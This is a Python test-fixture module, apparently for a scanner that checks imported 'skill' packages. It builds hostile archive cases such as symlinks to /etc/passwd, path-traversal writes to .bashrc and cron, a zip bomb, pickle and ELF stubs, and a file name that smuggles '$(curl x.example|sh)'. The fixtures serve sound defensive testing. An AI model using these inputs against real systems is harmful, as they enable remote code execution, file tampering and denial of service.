"""Reads the corpora of foreign skills: many in one file, odd characters written as `\\u{200b}`."""

import io
import re
import zipfile
from pathlib import Path

from hermes.skills.scanner.finding import Entry

HERE = Path(__file__).parent / "corpora" / "skills"
_CODE = re.compile(r"\\u\{([0-9a-fA-F]+)\}")


def read_corpus(file: str) -> dict[str, tuple[str, list[Entry]]]:
    """By name: the class of the skill, and its files."""
    found: dict[str, tuple[str, list[Entry]]] = {}
    text = _CODE.sub(lambda code: chr(int(code[1], 16)), (HERE / file).read_text(encoding="utf-8"))
    for block in re.split(r"^@@ ", text, flags=re.MULTILINE)[1:]:
        head, _, rest = block.partition("\n")
        name, kind, description = (part.strip() for part in head.split("|", 2))
        body, *files = re.split(r"^@ ", rest, flags=re.MULTILINE)
        title = name.replace("-", " ").capitalize()
        skill = f"---\nname: {name}\ndescription: {description}\n---\n# {title}\n\n{body}"
        entries = [Entry(path="SKILL.md", data=skill.encode("utf-8", "surrogatepass"))]
        for each in files:
            line, _, content = each.partition("\n")
            path, _, mode = line.partition(" ")
            entries.append(Entry(path=path, data=content.encode(), executable=mode.strip() == "x"))
        found[name] = (kind, entries)
    return found


def made() -> dict[str, tuple[str, list[Entry]]]:
    """Hostile ones that no text file can hold: links, bombs, names, programs."""
    skill = Entry(path="SKILL.md", data=b"---\nname: x\ndescription: y\n---\n# X\n\nUse it.\n")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.csv", b"0" * (80 << 20))
    cases = {
        "link-to-passwd": Entry(path="references/a.md", data=b"", link="/etc/passwd"),
        "link-up": Entry(path="assets/up", data=b"", link="../../.."),
        "link-to-itself": Entry(path="assets/loop", data=b"", link="loop"),
        "climbs-out": Entry(path="../../.bashrc", data=b"id"),
        "absolute": Entry(path="/etc/cron.d/x", data=b"id"),
        "backslash": Entry(path="..\\..\\x.bat", data=b"id"),
        "zip-bomb": Entry(path="assets/data.zip", data=bomb.getvalue()),
        "elf": Entry(path="scripts/tool", data=b"\x7fELF\x02\x01" + b"\0" * 64, executable=True),
        "compiled": Entry(path="scripts/tool.pyc", data=b"\xa7\r\r\n" + b"\0" * 16),
        "huge-text": Entry(path="references/all.md", data=b"word " * 400_000),
        "huge-file": Entry(path="assets/blob.bin", data=b"\1" * (9 << 20)),
        "name-runs": Entry(path="assets/$(curl x.example|sh).txt", data=b""),
        "name-newline": Entry(path="assets/a\nb.txt", data=b""),
        "nested-skill": Entry(path="assets/inner/SKILL.md", data=skill.data),
        "deep": Entry(path="/".join(["a"] * 40) + "/b.md", data=b"x"),
        "same-name-twice": Entry(path="skill.MD", data=b"other"),
        "wheel": Entry(path="assets/dep.whl", data=b"PK\x03\x04"),
        "pickle": Entry(path="assets/m.pkl", data=b"\x80\x04\x95"),
    }
    found = {name: ("archive", [skill, entry]) for name, entry in cases.items()}
    many = [Entry(path=f"assets/{number}.txt", data=b"") for number in range(600)]
    return {**found, "too-many": ("archive", [skill, *many])}
